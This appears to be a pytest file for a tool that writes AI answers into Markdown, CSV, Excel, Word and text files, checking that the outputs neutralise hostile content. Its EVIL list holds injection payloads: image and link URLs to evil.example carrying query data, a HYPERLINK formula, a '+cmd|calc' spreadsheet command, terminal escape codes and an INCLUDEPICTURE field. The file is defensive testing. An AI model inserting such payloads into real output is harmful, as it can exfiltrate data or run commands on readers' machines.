"""An answer is text wherever it is written: no formula, no field, no image or link that fetches, no control code."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.faults.server import Misbehaving, ok
from tests.program import kumaai

EVIL = (
    "![x](https://evil.example/?q=秘密)",
    '=HYPERLINK("https://evil.example","x")',
    "<img src=https://evil.example/a.png>",
    "[押す](https://evil.example/?q=1)",
    "[a]: https://evil.example/b",
    "+cmd|calc!A1",
    "{{ title }} \x1b[31m赤\x9b2J",
    'INCLUDEPICTURE "https://evil.example/p.png"',
)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a hostile answer in every kind of file."""
    folder = tmp_path_factory.mktemp("answers")
    (folder / "n.txt").write_text("お知らせ\n調査を行う。\n", encoding="utf-8")
    points = [{"text": text, "cites": ["L2"]} for text in EVIL]
    answer = json.dumps({"title": "=1+1", "points": points}, ensure_ascii=False)
    with Misbehaving(ok(answer)) as server:
        environ = {"KUMAAI_BASE_URL": server.base_url, "KUMAAI_MODEL": "m"}
        for kind in ("md", "csv", "xlsx", "docx", "txt"):
            assert kumaai(folder, "summarize", "n.txt", "-o", f"o.{kind}", environ=environ).status == 0
    return folder


def test_markdown_fetches_nothing(written: Path) -> None:
    """Images, links, link definitions and elements are shown as they were written."""
    text = (written / "o.md").read_text(encoding="utf-8")
    assert r"!\[x]\(https://evil" in text
    assert r"\<img" in text
    assert r"]\: https" in text
    assert "\x1b" not in text
    assert "\x9b" not in text


def test_a_worksheet_holds_no_formula_and_no_link(written: Path) -> None:
    """Every text is a string cell."""
    book = openpyxl.load_workbook(written / "o.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)
    assert all(cell.data_type == "s" or not str(cell.value).startswith(("=", "+")) for cell in cells)
    assert not any("evil" in str(cell.hyperlink.target) for cell in cells if cell.hyperlink)


def test_a_document_holds_no_field_and_no_link_to_elsewhere(written: Path) -> None:
    """What looks like a field code is text; nothing of the package points outside."""
    with zipfile.ZipFile(written / "o.docx") as package:
        body = package.read("word/document.xml").decode()
        outside = [n for n in package.namelist() if n.endswith(".rels") and b"evil" in package.read(n)]
    assert "INCLUDEPICTURE" in body
    assert "instrText" not in body
    assert "fldSimple" not in body
    assert outside == []


def test_a_csv_file_holds_no_formula(written: Path) -> None:
    """A field that a spreadsheet would compute begins with an apostrophe."""
    fields = (written / "o.csv").read_text(encoding="utf-8-sig").replace('"', "").split(",")
    assert not any(field.startswith(("=", "+", "@", "-")) for field in fields)
